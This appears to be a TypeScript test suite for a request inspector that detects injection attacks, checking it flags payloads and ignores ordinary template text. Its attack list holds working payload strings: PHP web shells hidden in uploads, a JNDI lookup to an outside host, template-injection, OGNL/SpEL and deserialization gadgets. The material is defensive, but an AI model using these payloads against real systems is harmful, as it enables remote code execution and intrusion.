import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import fc from 'fast-check';
import { strengthIn } from '../fixtures/strength-in.ts';
import { inspectRequest } from '../inspect-request.ts';

/** PHP, Java, templates, includes, serialised objects and web shells. */
const families = ['php', 'java', 'template', 'ssi', 'deserialization', 'webshell'];
const upload = (fileName: string, type: string, content: string) => ({
  method: 'POST',
  target: '/upload',
  headers: { host: 'shop.test', 'content-type': 'multipart/form-data; boundary=b' },
  body: `--b\r\ncontent-disposition: form-data; name="f"; filename="${fileName}"\r\ncontent-type: ${type}\r\n\r\n${content}\r\n--b--\r\n`,
});

const attacks = [
  '".system(\'ls\')."',
  "'.print(`ls`).'",
  "$a='assert';$a($_POST[1]);",
  upload('a.png', 'image/png', 'GIF89a\n<?php passthru($_POST[1]);'),
  upload('a.php', 'application/x-php', '<?php eval($_POST["a"]);'),
  '$' + '{jndi:$' + '{lower:L}dap://h.example/a}',
  '%{(#a=@java.lang.System@getenv("A"))}',
  "{{ ''.class.getResource('/') }}",
  '#{T(java.lang.System).exit(0)}',
  "{{lipsum.__globals__['os'].popen('ls')}}",
  "{{#with 'a'}}{{lookup x 'constructor'}}{{/with}}",
  "{system('ls')}",
  '{"x":{"@type":"java.net.Inet4Address","val":"h.example"}}',
  'server.linecache.os.system',
  "$f='sys'.'tem';$f('ls');",
  '$' + "{'_'.'POST'}[1](3)",
  "(chr(115).'ystem')('ls')",
  "$GLOBALS['jug']('ls')",
  "eval(pack('H*','6c73'));",
  '{"py/object":"subprocess.Popen"}',
];

const harmless = [
  '$' + '{name}',
  '{{ user.firstName }} {{#each items}}{{this}}{{/each}}',
  '{% for i in items %}{{ i.price | money }}{% endfor %}',
  '<% if (x) { %> <%= x %> <% } %>',
  'Hello #' + '{user.name}',
  'java.lang.RuntimeException',
  '{"exception":"java.lang.IllegalStateException","@type":"Error"}',
  'org.apache.commons.lang3.StringUtils',
  "$(this).find('.x').system('y')",
  'Error: Cannot find module child_process',
  'O:8:"DateTime":1:{s:4:"date";s:1:"a";}',
  upload('notes.txt', 'text/plain', 'we assert (again) that system (b) works'),
  'p^{2} + \\frac{1}{2}',
  'student.class.name',
];

describe('the readers of code', () => {
  for (const sample of attacks) {
    it(`find ${JSON.stringify(sample)}`, () => assert.equal(strengthIn(sample, families), 'clear'));
  }
  for (const sample of harmless) {
    it(`leave ${JSON.stringify(sample)}`, () =>
      assert.equal(strengthIn(sample, families), undefined));
  }

  it('find a lookup however its letters are spelled by other lookups', () => {
    const spellings = [
      (letter: string) => letter,
      (letter: string) => `\${lower:${letter.toUpperCase()}}`,
      (letter: string) => `\${::-${letter}}`,
      (letter: string) => `\${env:NONE:-${letter}}`,
    ];
    const choices = fc.array(fc.constantFrom(...spellings), { minLength: 4, maxLength: 4 });
    fc.assert(
      fc.property(choices, (chosen) => {
        const word = [...'jndi'].map((letter, at) => chosen[at]?.(letter) ?? letter).join('');
        assert.equal(strengthIn(`\${${word}:dns://h.example/a}`, families), 'clear');
      }),
    );
  });

  it('keep finding under further percent-encoding', () => {
    const values = attacks.filter((sample) => typeof sample === 'string' && !/^\{"/.test(sample));
    fc.assert(
      fc.property(fc.constantFrom(...(values as string[])), (text) => {
        assert.equal(strengthIn(encodeURIComponent(text), families), 'clear');
      }),
    );
  });

  it('find nothing in placeholders with ordinary names', () => {
    const name = fc
      .stringMatching(/^[a-z]{2,8}(?:\.[a-z]{2,8})?$/)
      .filter((text) => !/^(?:config|settings|app)$/.test(text));
    const around = fc.constantFrom(
      ['{{', '}}'],
      ['$' + '{', '}'],
      ['#' + '{', '}'],
      ['<%= ', ' %>'],
      ['{{ ', ' }}'],
    );
    fc.assert(
      fc.property(name, around, (text, [open, close]) => {
        assert.equal(strengthIn(`${open}${text}${close}`, families), undefined);
      }),
    );
  });

  it('do bounded work on hostile input', () => {
    for (const piece of [
      '{',
      '{{',
      '$' + '{',
      '<%',
      'system(',
      '(#a',
      '$_GET[',
      'O:1:"',
      '{a,',
      '__class__',
      'T(java.',
    ]) {
      const text = piece.repeat(Math.ceil(200_000 / piece.length));
      const value = { place: 'form', name: 'x', text, encoding: 'none' } as const;
      const { steps } = inspectRequest({
        method: 'POST',
        version: 'HTTP/1.1',
        values: [value],
        gaps: [],
      });
      assert.ok(steps <= 8_000_000, `${piece}: ${steps}`);
    }
  });
});
